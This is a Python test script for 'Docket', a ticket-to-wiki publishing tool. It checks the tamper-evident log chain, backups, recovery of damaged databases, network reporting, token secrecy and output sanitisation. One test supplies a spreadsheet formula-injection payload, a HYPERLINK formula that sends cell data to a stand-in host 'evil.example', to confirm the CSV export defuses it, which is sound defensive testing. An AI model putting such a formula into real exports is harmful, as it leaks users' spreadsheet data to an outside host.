# SPDX-License-Identifier: GPL-3.0-or-later
"""What Docket keeps and how it proves it: the log's chain, backups, a damaged database, whom it talked to, and where the token is not."""
import base64
import csv
import glob
import io
import json
import os
import re
import socket
import sqlite3
import sys
import tempfile
import threading

sys.path.insert(0, os.path.dirname(__file__))
from commandlinesite import POLICY, site_folder  # noqa: E402
from docketstory import Docket, Site  # noqa: E402

DONE, FAILED, USAGE, CONFLICT, REMOTE, NOT_SIGNED_IN = range(6)
PAGE = "998876543"


def prints_no_terminal_escapes(docket, site):
    site.transition("OPS-5", "Done")
    docket.run("poll")
    hostile = [one for one in docket.json("queue", "--state", "all") if one["item"] == "OPS-5"][0]
    title = docket.json("show", hostile["id"])
    assert "\\u001b" in json.dumps(site.call("GET", "/rest/api/3/issue/OPS-5")["fields"]["summary"]), "the ticket lost its escapes: this proves nothing"
    for words in (docket.run("queue"), docket.run("show", hostile["id"]), docket.run("log"), docket.run("network"),
                  docket.run("--json", "show", hostile["id"]), docket.run("--json", "queue"), docket.run("--json", "log"), docket.run("log", "--csv"),
                  docket.run("poll"), docket.run("policy", "export"), docket.said):
        assert not [c for c in words if (ord(c) < 32 and c not in "\n\t\r") or 0x7f <= ord(c) < 0xa0 or 0x2028 <= ord(c) <= 0x202e
                    or 0x2066 <= ord(c) <= 0x2069], repr(words)
    assert title["id"] == hostile["id"]


def exports_no_formulas(docket):
    reason = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\"), \"and\" more"
    hostile = [one for one in docket.json("queue", "--state", "all") if one["item"] == "OPS-5"][0]
    docket.run("reject", hostile["id"], "--reason", reason)
    rows = list(csv.reader(io.StringIO(docket.run("log", "--csv"), newline="")))
    entries = docket.json("log")
    assert len(rows) == len(entries) + 1 and {len(row) for row in rows} == {14}, rows
    assert [row[10] for row in rows if "HYPERLINK" in row[10]] == ["'" + reason], rows
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row[11] for row in rows[1:]] == [entry["hash"] for entry in entries]


def database_of(docket):
    return os.path.join(docket.folder.name, "workspace", "docket.db")


def sql(docket, statement, *values):
    connection = sqlite3.connect(database_of(docket))
    with connection:
        rows = connection.execute(statement, values).fetchall()
    connection.close()
    return rows


def publishes_one(docket, site):
    docket.run("policy", "import", docket.file("policy.json", POLICY))
    site.transition("OPS-1", "Done")
    docket.run("poll")
    proposal = docket.json("queue", "--state", "waiting")[0]
    docket.run("approve", proposal["id"])


def proves_the_log(docket, site):
    check = docket.json("log", "verify")
    assert check["whole"] and check["findings"] == [] and check["writes"] == 1, check
    assert re.fullmatch("[0-9a-f]{64}", check["tip"]), check
    message = site.page(PAGE)["version"]["message"]
    mark = re.search(r" \[docket:([0-9a-f]{12})\]$", message)
    assert mark and len(message) <= 255, message
    docket.run("log", "verify", "--tip", mark.group(1))
    docket.run("log", "verify", "--tip", check["tip"])
    docket.run("log", "verify", "--tip", "0" * 12, code=FAILED)
    docket.run("log", "verify", "--tip", "soon", code=FAILED)
    assert check["tip"] in docket.run("log", "verify")
    return mark.group(1)


def names_what_was_tampered_with(docket, mark):
    whole = docket.file("whole.db", "")
    os.unlink(whole)
    docket.run("backup", whole)
    last = sql(docket, "SELECT max(sequence) FROM log")[0][0] + 1  # Going back to the backup is an entry, too.
    for statement, kind, entry in [
            ("UPDATE log SET person = 'someone' WHERE sequence = 2", "edited", 2),
            ("DELETE FROM log WHERE sequence = 2", "removed", 2),
            ("DELETE FROM log WHERE sequence = %d" % last, "truncated", last),
            ("INSERT INTO log SELECT %d, at, kind, transaction_id, proposal, item, page, person, version, value, before_body, after_body,"
             " previous_hash, hash FROM log WHERE sequence = 1" % (last + 1), "inserted", last + 1)]:
        sql(docket, statement)
        check = docket.json("log", "verify", code=FAILED)
        assert [(one["kind"], one["first"]) for one in check["findings"]] == [(kind, entry)], check
        assert "entry %d" % entry in docket.run("log", "verify", code=FAILED)
        docket.run("recover", "--from", whole)
    # Everything in the database made to fit: the mark on the page still tells.
    sql(docket, "DELETE FROM log WHERE sequence > 2")
    sql(docket, "DELETE FROM intent")
    sql(docket, "UPDATE meta SET value = '2' WHERE name = 'tip_sequence'")
    sql(docket, "UPDATE meta SET value = (SELECT hash FROM log WHERE sequence = 2) WHERE name = 'tip_hash'")
    docket.run("log", "verify")
    check = docket.json("log", "verify", "--tip", mark, code=FAILED)
    assert check["findings"][0]["kind"] == "unknownTip", check
    docket.run("recover", "--from", whole)
    docket.run("log", "verify", "--tip", mark)


def backs_up_without_overwriting(docket):
    path = os.path.join(docket.folder.name, "copy.db")
    made = docket.json("backup", path)
    assert made["log"]["whole"] and made["size"] == os.path.getsize(path), made
    assert os.stat(path).st_mode & 0o077 == 0
    with open(path, "rb") as file:
        before = file.read()
    docket.run("backup", path, code=FAILED)
    assert "already there" in docket.said
    with open(path, "rb") as file:
        assert file.read() == before
    return path


def a_damaged_database_is_never_lost(docket, backup):
    docket.run("recover")  # A sound one is left alone.
    queue = docket.json("queue", "--state", "all")
    path = database_of(docket)
    for ending in ("-wal", "-shm"):
        if os.path.exists(path + ending):
            os.unlink(path + ending)
    broken = b"what is left after the disk failed " * 400
    with open(path, "wb") as file:
        file.write(broken)
    for command in (["queue"], ["log"], ["log", "verify"], ["poll"], ["network"], ["backup", backup + "2"]):
        docket.run(*command, code=FAILED)
        assert "damaged" in docket.said and path in docket.said and "docket recover" in docket.said, docket.said
        with open(path, "rb") as file:
            assert file.read() == broken, command
    told = docket.json("recover", "--from", backup)
    with open(told["setAside"], "rb") as file:
        assert file.read() == broken
    assert docket.json("queue", "--state", "all") == queue
    went = docket.json("log")[-1]
    assert went["kind"] == "restored", went
    assert os.path.basename(backup) in went["text"] and os.path.basename(told["setAside"]) in went["text"], went
    with open(path, "wb") as file:
        file.write(broken)
    for ending in ("-wal", "-shm"):
        if os.path.exists(path + ending):
            os.unlink(path + ending)
    assert "set aside as" in docket.run("recover")
    assert len(glob.glob(os.path.join(os.path.dirname(path), "docket-aside-*.db"))) >= 2
    assert docket.json("queue") == []
    assert "set aside" in docket.json("log")[0]["text"]
    docket.run("recover", "--from", "/nowhere.db", code=FAILED)


def tells_whom_it_talked_to(docket, site):
    host = site.connection["jira"].split("//")[1]
    rows = docket.json("network")
    assert rows and {row["host"] for row in rows} == {host}, rows
    assert all(row["why"] and row["exchanges"] > 0 and row["last"].endswith("Z") for row in rows), rows
    assert sum(row["received"] for row in rows) > 1000 and sum(row["sent"] for row in rows) > 100
    assert docket.json("network", "--since", "2100-01-01") == []
    docket.run("network", "--since", "soon", code=USAGE)
    assert host in docket.run("network")


def holds_no_token(docket, site, outputs):
    token = site.connection["token"]
    pair = "%s:%s" % (site.connection["email"], token)
    forms = [token.encode(), token.encode("utf-16-le"), base64.b64encode(pair.encode())]
    for folder, _, names in os.walk(docket.folder.name):
        for name in names:
            with open(os.path.join(folder, name), "rb") as file:
                content = file.read()
            for form in forms:
                assert form not in content, "the token stands in %s" % name
    for output in outputs:
        for form in forms[::2]:
            assert form.decode() not in output, "the token was printed"


def goes_through_the_systems_proxy(docket):
    asked = []
    listener = socket.create_server(("127.0.0.1", 0))

    def answer():
        for _ in range(8):
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                asked.append(connection.recv(4096).split(b"\r\n")[0])
                connection.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    docket.connect({"jira": "https://tracker.example.invalid", "confluence": "https://tracker.example.invalid/wiki", "email": "mia@example.com",
                    "token": "a-token-nobody-has"})
    proxy = "http://127.0.0.1:%d" % listener.getsockname()[1]
    docket.environment.update(https_proxy=proxy, http_proxy=proxy, no_proxy="")
    docket.run("poll", code=REMOTE)
    listener.close()
    assert asked and all(line.startswith(b"CONNECT tracker.example.invalid:443") for line in asked), asked


def writes_no_core(site):
    with open("/proc/%d/limits" % site.process.pid, encoding="utf-8") as file:
        limit = [line for line in file if line.startswith("Max core file size")][0]
    assert limit.split()[4:6] == ["0", "0"], limit


def main():
    with tempfile.TemporaryDirectory() as folder:
        site_folder(folder)
        with Site("--site", folder) as site:
            docket = Docket(site)
            docket.environment["QT_LOGGING_RULES"] = "docket.*=true"
            writes_no_core(site)
            publishes_one(docket, site)
            said = docket.said
            mark = proves_the_log(docket, site)
            prints_no_terminal_escapes(docket, site)
            exports_no_formulas(docket)
            backup = backs_up_without_overwriting(docket)
            tells_whom_it_talked_to(docket, site)
            names_what_was_tampered_with(docket, mark)
            outputs = [docket.run("--json", "log"), docket.run("log"), docket.run("policy", "export"), docket.run("network"), said, docket.said]
            a_damaged_database_is_never_lost(docket, backup)
            docket.connect({**site.connection, "token": "x" + site.connection["token"]})
            docket.run("poll", code=NOT_SIGNED_IN)
            holds_no_token(docket, site, outputs + [docket.said])
            goes_through_the_systems_proxy(docket)
    print("what Docket keeps is safe and can be proved")


main()
